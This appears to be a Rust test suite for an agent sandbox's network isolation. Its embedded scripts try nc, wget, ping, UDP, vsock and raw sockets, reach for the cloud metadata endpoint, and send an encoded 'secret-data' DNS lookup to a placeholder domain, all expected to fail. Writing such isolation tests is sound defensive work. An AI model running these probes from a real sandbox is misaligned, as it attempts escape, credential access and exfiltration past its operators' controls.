//! A guest without a policy reaches nothing, by any way there is.
//!
//! The witness is the host: a server there that would answer, and counts who asks.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use scenarios::Session;

/// A host server on `address` that counts its callers.
fn witness(address: &str) -> Option<Arc<AtomicUsize>> {
    let listener = TcpListener::bind(address).ok()?;
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&calls);
    std::thread::spawn(move || {
        for _caller in listener.incoming() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    Some(calls)
}

#[test]
fn not_by_address_name_icmp_udp_or_ipv6() {
    let calls = witness("127.0.0.1:8099").expect("the port is free");
    let script = r#"
        try() { name=$1; shift; if timeout 5 "$@" >/dev/null 2>&1; then echo "$name OPEN"; else echo "$name closed"; fi; }
        try ip4 nc -w 2 127.0.0.1 8099 </dev/null
        try ip4-public nc -w 2 192.0.2.1 80 </dev/null
        try metadata wget -q -O- http://169.254.169.254/
        try ip6 nc -w 2 2001:db8::1 80 </dev/null
        try name wget -q -O- http://example.com/
        try label nslookup c2VjcmV0LWRhdGE.example.com
        try udp sh -c 'echo x | nc -u -w 1 192.0.2.1 9999 | grep .'
        try icmp ping -c 1 -W 1 192.0.2.1
    "#;
    let outcome = Session::new("tiny").script(script).run();
    assert_eq!(outcome.code, Some(0), "{outcome}");
    assert!(!outcome.text().contains("OPEN"), "{outcome}");
    assert_eq!(outcome.text().matches("closed").count(), 8, "{outcome}");
    assert_eq!(calls.load(Ordering::SeqCst), 0, "the host was reached: {outcome}");
}

#[test]
fn not_by_vsock_from_the_agents_user() {
    let script = r#"
import socket, errno
for cid in (0, 1, 2, 3, 0xffffffff):
    for port in (1, 2, 3, 22, 1023, 1024, 5000):
        try:
            s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect((cid, port))
            print("OPEN", cid, port)
        except OSError as e:
            pass
for family in (socket.AF_PACKET, socket.AF_ALG, socket.AF_BLUETOOTH):
    try:
        socket.socket(family, socket.SOCK_RAW)
        print("OPEN family", family)
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    print("OPEN raw")
except OSError:
    pass
print("done")
"#;
    let outcome = Session::new("base").command(["python3", "-c", script]).run();
    assert_eq!(outcome.text(), "done\n", "{outcome}");
}

#[test]
fn a_refused_connection_fails_at_once() {
    // A client that waits for a time-out would hang an agent for minutes.
    let script = "start=$(date +%s); nc -w 20 192.0.2.1 80 </dev/null; echo x | nc -u -w 1 192.0.2.1 53; end=$(date +%s); test $((end-start)) -lt 10 && echo fast";
    let outcome = Session::new("tiny").script(script).run();
    assert!(outcome.text().contains("fast"), "{outcome}");
}
